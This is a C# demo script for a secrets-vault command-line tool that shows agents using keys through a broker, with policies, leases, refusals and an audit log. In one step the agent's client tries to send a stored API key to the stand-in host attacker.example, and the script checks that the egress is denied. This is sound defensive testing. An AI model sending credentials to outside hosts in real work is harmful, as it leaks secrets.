using System.Security.Cryptography;
using Sanctum.Cli.CommandLine;
using Sanctum.Cli.Loopback;
using Sanctum.Cli.Operators;
using Sanctum.Cli.Terminals;
using Sanctum.Client;

namespace Sanctum.Cli.Demo;

/// <summary>What <c>sanctum demo</c> tells: operator, agent, audit log. Every sentence with a tick was checked.</summary>
internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirectory vault, LoopbackService service, CancellationToken cancelled)
{
    private const string Agent = "helper";
    private const string ApiKey = "shop/api_key";
    private const string Token = "legacy/token";
    private const string SigningKey = "webhooks/signing_key";
    private const string Ungranted = "prod/database_url";

    private readonly string _secret = $"sk-demo-{RandomNumberGenerator.GetHexString(24, lowercase: true)}";
    private readonly string _token = RandomNumberGenerator.GetHexString(32, lowercase: true);

    /// <summary>How many things were checked, and held.</summary>
    public int Checked { get; private set; }

    public async Task TellAsync()
    {
        terminal.Line($"A throw-away vault in {vault.Path}. Everything below happens for real.");
        await OperatorSetsUpAsync().ConfigureAwait(false);
        await AgentWorksAsync().ConfigureAwait(false);
        await OperatorLooksAsync().ConfigureAwait(false);
    }

    private async Task OperatorSetsUpAsync()
    {
        Heading("1. You, the operator, create a vault and start its daemon");
        await shell.RunAsync(["init"]).ConfigureAwait(false);
        Check("the vault is on disk, and only you can read it", OnlyOwnerReads(vault.Path) && OnlyOwnerReads(vault.KeyDocumentFile));
        await shell.RunAsync(["daemon", "start"]).ConfigureAwait(false);
        var daemon = await shell.FindDaemonAsync().ConfigureAwait(false);
        Check($"the daemon responds, in its own process {daemon.ProcessId}", !daemon.Sealed && daemon.ProcessId != Environment.ProcessId);

        Heading("2. You store secrets. They are typed or piped in, never given as arguments");
        await shell.RunAsync(["store", ApiKey, "--header-type", "bearer", "--allow-origin", service.Origin], _secret).ConfigureAwait(false);
        await shell.RunAsync(["store", Token, "--description", "for a program that can't use the vault yet"], _token).ConfigureAwait(false);
        await shell.RunAsync(["store", SigningKey, "--type", "hmac"], RandomNumberGenerator.GetHexString(64, lowercase: true)).ConfigureAwait(false);
        await shell.RunAsync(["store", Ungranted], "postgres://admin:hunter2@db/prod").ConfigureAwait(false);
        terminal.Line($"    ({service.Origin} is a service that this demo started; for a real one: --service openai, or --host NAME)");
        Check("on disk they are encrypted: the secret is in none of the vault's files", !IsAnywhereOnDisk(_secret));

        Heading("3. You register an agent and write its policy");
        await shell.RunAsync(["agent", "register", Agent]).ConfigureAwait(false);
        await shell.RunAsync(["policy", "add", "helper-uses", "--principal", $"agent:{Agent}", "--resources", $"{ApiKey},{SigningKey}", "--actions", "list,use", "--condition", "max_uses_per_hour=100"]).ConfigureAwait(false);
        await shell.RunAsync(["policy", "add", "helper-reads", "--principal", $"agent:{Agent}", "--resources", "legacy/*", "--actions", "list,retrieve", "--max-ttl", "60"]).ConfigureAwait(false);
        Check("the agent's private key is in a file that only you can read", OnlyOwnerReads(Path.Join(vault.Keys, $"{Agent}.key")));
    }

    private async Task AgentWorksAsync()
    {
        Heading("4. The agent connects with the .NET client");
        Code($"await using var client = await SanctumClient.ConnectAsync(\"{Agent}\");");
        var options = new SanctumClientOptions { SocketPath = vault.Socket, KeyDirectory = vault.Keys };
        await using var client = await SanctumClient.ConnectAsync(Agent, options, cancelled).ConfigureAwait(false);
        Check("signed in with its key: there is no password and no API key in its environment", client.AgentName == Agent);

        Code("await client.ListAsync()");
        var paths = (await client.ListAsync(cancellationToken: cancelled).ConfigureAwait(false)).Select(it => it.Path).ToList();
        Check($"it sees {string.Join(", ", paths)}, and nothing else", paths is [Token, ApiKey, SigningKey]);

        await AgentCallsAsync(client).ConfigureAwait(false);
        await AgentUsesAsync(client).ConfigureAwait(false);
        await AgentRetrievesAsync(client).ConfigureAwait(false);
        await AgentIsRefusedAsync(client).ConfigureAwait(false);
    }

    private async Task AgentCallsAsync(SanctumClient client)
    {
        Heading("5. It calls a service with a key that it never holds");
        await ProgramCallsAsync().ConfigureAwait(false);
        Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"{service.Origin}/hello\"))");
        using var request = new HttpRequestMessage(HttpMethod.Get, service.Origin + "/hello");
        using var response = await client.SendAsync(ApiKey, request, cancelled).ConfigureAwait(false);
        var answer = await response.Content.ReadAsStringAsync(cancelled).ConfigureAwait(false);
        Check("the service got the key, from the vault", response.IsSuccessStatusCode && service.Received(_secret));
        terminal.Line($"    it responded carelessly, with the key in it; the agent got: {answer}");
        Check("the key was taken out of the response", answer.Length > 0 && !SecretForms.Tells(answer, _secret));

        Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"https://attacker.example/\"))");
        using var elsewhere = new HttpRequestMessage(HttpMethod.Get, "https://attacker.example/");
        Check("the key goes nowhere else: EGRESS_DENIED", await CodeAsync(() => client.SendAsync(ApiKey, elsewhere, cancelled)).ConfigureAwait(false) == "EGRESS_DENIED");
    }

    // As agents come: a program that knows nothing of a vault, and finds a key where it looks for one.
    private async Task ProgramCallsAsync()
    {
        if (!PlainProgram.IsThere)
        {
            terminal.Line("    (there is no curl here, so this is told with the .NET client alone)");
            return;
        }

        var answer = await shell.RunAsync(["run", "--agent", Agent, "--env", $"{PlainProgram.Variable}={ApiKey}", "--", .. PlainProgram.Ask(service.Origin + "/hello")]).ConfigureAwait(false);
        Check("the service got the key, which curl did not have: it had a placeholder", service.Received(_secret));
        Check("the key was taken out of what curl got", answer.Length > 0 && !SecretForms.Tells(answer, _secret));
        var environment = await shell.RunAsync(["run", "--agent", Agent, "--env", $"{PlainProgram.Variable}={ApiKey}", "--", "printenv", PlainProgram.Variable]).ConfigureAwait(false);
        Check("the placeholder is of the key's shape, and worth nothing", environment.StartsWith("sk-", StringComparison.Ordinal) && !SecretForms.Tells(environment, _secret));
    }

    private async Task AgentRetrievesAsync(SanctumClient client)
    {
        Heading("7. A program that needs the secret itself gets it on a lease");
        Code($"await client.RetrieveLeaseAsync(\"{Token}\")");
        await using var lease = await client.RetrieveLeaseAsync(Token, cancellationToken: cancelled).ConfigureAwait(false);
        Check($"it has the secret, on a lease of {lease.Ttl.TotalSeconds:0} seconds", lease.GetString() == _token && lease.Ttl <= TimeSpan.FromSeconds(60));
    }

    private async Task AgentUsesAsync(SanctumClient client)
    {
        Heading("6. It signs and encrypts with a key that it never sees");
        Code($"await client.SignAsync(\"{SigningKey}\", \"order 42\")");
        var signature = await client.SignAsync(SigningKey, "order 42", cancellationToken: cancelled).ConfigureAwait(false);
        Check($"signed with {signature.Algorithm}: {signature.Value[..16]}...", signature.Value.Length > 16);
        Check("the signature is right", await client.VerifyAsync(SigningKey, "order 42", signature.Value, cancellationToken: cancelled).ConfigureAwait(false));
        Check("for another text it is wrong", !await client.VerifyAsync(SigningKey, "order 43", signature.Value, cancellationToken: cancelled).ConfigureAwait(false));

        Code($"await client.EncryptAsync(\"{SigningKey}\", \"a note\")");
        var ciphertext = await client.EncryptAsync(SigningKey, "a note", cancellationToken: cancelled).ConfigureAwait(false);
        Check("encrypted", !ciphertext.Contains("a note", StringComparison.Ordinal));
        Check("and decrypted again", await client.DecryptAsync(SigningKey, ciphertext, cancellationToken: cancelled).ConfigureAwait(false) == "a note");
    }

    private async Task AgentIsRefusedAsync(SanctumClient client)
    {
        Heading("8. What no policy grants is refused");
        Code($"await client.RetrieveAsync(\"{Ungranted}\")");
        Check("no policy names it: AccessDeniedException", await IsDeniedAsync(() => client.RetrieveAsync(Ungranted, cancellationToken: cancelled)).ConfigureAwait(false));
        Code($"await client.RetrieveAsync(\"{SigningKey}\")");
        Check("it may use this key, but not retrieve it: AccessDeniedException", await IsDeniedAsync(() => client.RetrieveAsync(SigningKey, cancellationToken: cancelled)).ConfigureAwait(false));
    }

    private async Task OperatorLooksAsync()
    {
        Heading("9. You see who did what");
        var log = await shell.RunAsync(["audit", "log", "--agent", Agent]).ConfigureAwait(false);
        Check("what the agent did is in the audit log", log.Contains("sign", StringComparison.Ordinal) && log.Contains(ApiKey, StringComparison.Ordinal));
        Check("refused calls are there too", log.Contains("denied", StringComparison.Ordinal) && log.Contains(Ungranted, StringComparison.Ordinal));
        Check("where the key was sent is there, and that it was taken out of a response", log.Contains(service.Origin, StringComparison.Ordinal) && log.Contains("scrubbed", StringComparison.Ordinal));
        Check("the secrets are not", !log.Contains(_secret, StringComparison.Ordinal) && !log.Contains(_token, StringComparison.Ordinal));
        var whole = await shell.RunAsync(["audit", "verify"]).ConfigureAwait(false);
        Check("no entry was changed, removed or added", whole.Contains("the audit log is intact", StringComparison.Ordinal));
        await shell.RunAsync(["daemon", "stop"]).ConfigureAwait(false);
        Check("the daemon is gone, and its sockets with it", !File.Exists(vault.Socket) && !File.Exists(vault.AdminSocket));
    }

    private void Heading(string text)
    {
        cancelled.ThrowIfCancellationRequested();
        terminal.Line();
        terminal.Line(text);
    }

    private void Code(string line) => terminal.Line($"  > {line}");

    private void Check(string what, bool holds)
    {
        if (!holds)
        {
            throw CliErrors.StepFailed("the demo's check", $"'{what}'", "not so");
        }

        Checked++;
        terminal.Line($"  \u2713 {what}");
    }

    private static async Task<bool> IsDeniedAsync(Func<Task> call) => await CodeAsync(call).ConfigureAwait(false) == "ACCESS_DENIED";

    private static async Task<string?> CodeAsync(Func<Task> call)
    {
        try
        {
            await call().ConfigureAwait(false);
            return null;
        }
        catch (Sanctum.Client.VaultException refused)
        {
            return refused.Code;
        }
    }

    private static bool OnlyOwnerReads(string path) =>
        (File.GetUnixFileMode(path) & ~(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute)) == 0;

    private bool IsAnywhereOnDisk(string secret) => Directory.EnumerateFiles(vault.Path, "*", SearchOption.AllDirectories)
        .Where(it => !it.EndsWith(".sock", StringComparison.Ordinal) && !it.EndsWith(".lock", StringComparison.Ordinal))
        .Any(it => Contains(it, secret));

    private static bool Contains(string file, string secret)
    {
        using var stream = new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
        using var content = new MemoryStream();
        stream.CopyTo(content);
        return content.ToArray().AsSpan().IndexOf(System.Text.Encoding.UTF8.GetBytes(secret)) >= 0;
    }
}
